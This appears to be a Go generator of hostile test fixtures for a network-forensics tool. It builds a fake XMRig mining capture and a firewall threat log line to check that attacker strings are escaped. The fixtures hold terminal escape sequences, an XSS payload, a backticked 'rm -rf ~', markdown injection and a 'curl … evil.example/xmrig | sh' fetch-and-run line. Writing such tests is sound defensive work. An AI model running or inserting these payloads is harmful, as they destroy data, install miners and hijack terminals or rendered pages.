package main

import (
	"fmt"
	"net/netip"
	"strings"
	"time"
)

// Hostile fixtures: evidence whose attacker-controlled strings try to drive
// the analyst's terminal or the markdown notes. Every renderer must show
// them escaped (investigate/textsafe), never emit them.

// hostilePayload strings together every trick: OSC 0 retitle, CSI clear
// screen, SGR red, a C1 CSI (U+009B, bytes c2 9b), a right-to-left
// override (U+202E), a raw BEL, a markdown link, HTML, backticks and table
// pipes.
const hostilePayload = "\x1b]0;pwned\x07\x1b[2J\x1b[31m\u009b31m\u202e\x07[click](http://evil.example/x)<img src=x onerror=alert(1)>`rm -rf ~`| x |"

// hostileLines is JSON-only (a log line cannot hold it): line breaks that
// would start a markdown heading or table row in the notes.
const hostileLines = "\r\n# injected heading\n| forged | row |\n"

var (
	hostileClient = ip("10.66.6.6")
	hostilePool   = ip("198.51.100.66")
)

// jsonEscape quotes s as a JSON string using only ASCII: control
// characters, C1 controls and U+202E become \u escapes, as a JSON encoder
// that escapes non-ASCII would write them.
func jsonEscape(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r < 0x20 || r >= 0x7f:
			fmt.Fprintf(&b, `\u%04x`, r)
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}

// hostileStratum is the miner↔pool exchange with the payload in the
// login, pass, agent, job_id, a reject message and a client.reconnect
// host. Values are JSON-escaped (\u001b …) except two that carry the
// non-control characters U+009B and U+202E as raw UTF-8 (valid JSON), and
// one pool line that is not JSON at all and carries every byte raw.
func hostileStratum(rpcID, seed string) (client, server []string) {
	p := hostilePayload
	login := `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":` + jsonEscape("4"+p+hostileLines+"WALLET") +
		`,"pass":` + jsonEscape("x"+p) + `,"agent":` + jsonEscape("XMRig/6.21.0 "+p) +
		`,"rigid":"` + "\u202erig\u009b2J" + `","algo":["rx/0"]}}` + "\n"
	jobID := jsonEscape("job" + p)
	job := fmt.Sprintf(`{"blob":"%s","algo":"rx/0","height":3693500,"seed_hash":%q,"job_id":%s,"target":"b88d0600","id":%q}`,
		strings.Repeat("0a", 76), seed, jobID, rpcID)
	server = []string{
		fmt.Sprintf(`{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":%q,"job":%s,"extensions":["algo","keepalive"],"status":"OK"}}`+"\n", rpcID, job),
		"MOTD " + p + " welcome to the pool\n", // not JSON: raw bytes on the wire
		`{"jsonrpc":"2.0","method":"job","params":` + job + "}\n",
		fmt.Sprintf(`{"id":2,"jsonrpc":"2.0","error":{"code":-1,"message":%s},"result":null}`+"\n", jsonEscape("Low difficulty share "+p)),
		`{"id":3,"jsonrpc":"2.0","error":null,"result":{"status":"OK"}}` + "\n",
		`{"jsonrpc":"2.0","method":"client.reconnect","params":[` + jsonEscape("evil.example"+p) + `,3333]}` + "\n",
	}
	client = []string{
		login,
		fmt.Sprintf(`{"id":2,"jsonrpc":"2.0","method":"submit","params":{"id":%q,"job_id":%s,"nonce":"deadbeef","result":"%s","algo":"rx/0"}}`+"\n",
			rpcID, jobID, strings.Repeat("ab", 30)+"0000"),
		fmt.Sprintf(`{"id":3,"jsonrpc":"2.0","method":"submit","params":{"id":%q,"job_id":%s,"nonce":"0badf00d","result":"%s","algo":"rx/0"}}`+"\n",
			rpcID, jobID, strings.Repeat("cd", 30)+"0000"),
	}
	return client, server
}

// hostileFiles writes the hostile capture, THREAT log and README.
func hostileFiles() map[string][]byte {
	c := newCase(0x686f7374696c65) // "hostile"
	cp := &capture{from: day, to: day.Add(24 * time.Hour)}
	t0 := at(9, 0, 0, 0)
	dnsName := "\x1b]0;pwned\x07\x1b[2J.\u202epool.evil.example"
	dnsExchange(cp, t0, netip.AddrPortFrom(hostileClient, 40001), netip.AddrPortFrom(dnsServer, 53), 0x1337, dnsName,
		[]netip.Addr{hostilePool}, 60)

	client := netip.AddrPortFrom(hostileClient, 40002)
	pool := netip.AddrPortFrom(hostilePool, 3333)
	k := newTCPConn(cp, c.r, client, pool)
	rtt := 20 * time.Millisecond
	t := k.handshake(t0.Add(50*time.Millisecond), rtt)
	cl, sv := hostileStratum(c.r.uuid(), c.r.hex(64))
	t = k.send(t.Add(time.Millisecond), true, []byte(cl[0]), 0)
	for i, m := range sv {
		t = k.send(t.Add(rtt+time.Duration(i)*time.Second), false, []byte(m), rtt/2)
		if i == 2 || i == 3 {
			t = k.send(t.Add(2*time.Second), true, []byte(cl[i-1]), 0)
		}
	}
	k.close(t.Add(time.Second), false, rtt)

	// A plain HTTP exchange with the payload raw in the request line,
	// headers and body, for the strings and stream views.
	web := newTCPConn(cp, c.r, netip.AddrPortFrom(hostileClient, 40003), netip.AddrPortFrom(hostilePool, 80))
	t = web.handshake(t.Add(3*time.Second), rtt)
	req := "GET /x.sh?" + strings.ReplaceAll(hostilePayload, " ", "%20") + " HTTP/1.1\r\nHost: evil.example\r\nUser-Agent: " + hostilePayload + "\r\n\r\n"
	t = web.send(t, true, []byte(req), rtt/2)
	body := "#!/bin/sh\n# " + hostilePayload + "\ncurl -s http://evil.example/xmrig | sh\n"
	t = web.send(t.Add(rtt), false, []byte(fmt.Sprintf("HTTP/1.1 200 OK\r\nServer: %s\r\nContent-Length: %d\r\n\r\n%s", hostilePayload, len(body), body)), rtt/2)
	web.close(t.Add(100*time.Millisecond), true, rtt)

	s := c.newSession(t0.Add(50*time.Millisecond), client, pool, "tcp", "json-rpc", "Users-Internet", `corp\`+hostilePayload)
	s.id = 6660666
	th := &threatRow{s: s, gen: t0.Add(80 * time.Millisecond), subtype: "spyware",
		threat: "XMRig Miner " + hostilePayload + " Command and Control Traffic Detection(85886)", severity: "critical",
		thrCategory: "cryptominer", action: "alert", url: "evil.example/" + hostilePayload, useragent: hostilePayload,
		seq: 7601441302587266600, quote: true}
	quoted := map[int]bool{12: true, 31: true, 32: true, 46: true}
	line := syslogPrefix(1, th.gen) + csvLine(th.fields(), func(i int) bool { return quoted[i] }) + "\n"
	return map[string][]byte{
		"hostile-stratum.pcap": pcapFile(cp.sorted()),
		"hostile-threat.log":   []byte(line),
		"README.md":            []byte(hostileReadme),
	}
}

const hostileReadme = "# Hostile fixtures\n\n" +
	"Generated by `go run ./cmd/mkdemo -hostile -o testdata/hostile`; `go test ./cmd/mkdemo` checks that they\n" +
	"match the generator and hold the raw bytes below. They exist to prove that no attacker-controlled string\n" +
	"reaches the analyst's terminal or the markdown notes unescaped (issues #5 and #6): every view, `--json`\n" +
	"output and export must show them through investigate/textsafe.\n\n" +
	"The payload, in every field below: OSC 0 retitle `ESC ]0;pwned BEL`, CSI clear `ESC [2J`, colour\n" +
	"`ESC [31m`, a C1 CSI (U+009B, bytes `c2 9b`), a right-to-left override (U+202E), a raw BEL, a markdown\n" +
	"link `[click](http://evil.example/x)`, HTML `<img src=x onerror=alert(1)>`, backticks and `| x |` table pipes;\n" +
	"in the Stratum login also JSON-escaped CR/LF starting a markdown heading and a forged table row.\n\n" +
	"| file | what | for |\n|---|---|---|\n" +
	"| hostile-stratum.pcap | 10.66.6.6 → 198.51.100.66:3333: an XMRig-style session whose login, pass, agent, rigid, job_id, a reject message and a `client.reconnect` host carry the payload as JSON `\\u001b` escapes (rigid: raw U+202E/U+009B); a non-JSON `MOTD` line from the pool and an HTTP exchange on port 80 carry it as raw bytes; a DNS answer for a name holding raw ESC/BEL and U+202E | capture analysis, Stratum view, strings, follow-stream, `pcap --json` |\n" +
	"| hostile-threat.log | one PAN-OS THREAT line (121 fields, ISO 8601 header) for the same pair and session, threat name, URL, source user and user agent fields quoted CSV holding the payload raw | import, queue, alert header, case notes, `list --json` |\n\n" +
	"Addresses are documentation and private ranges; nothing here is real.\n"
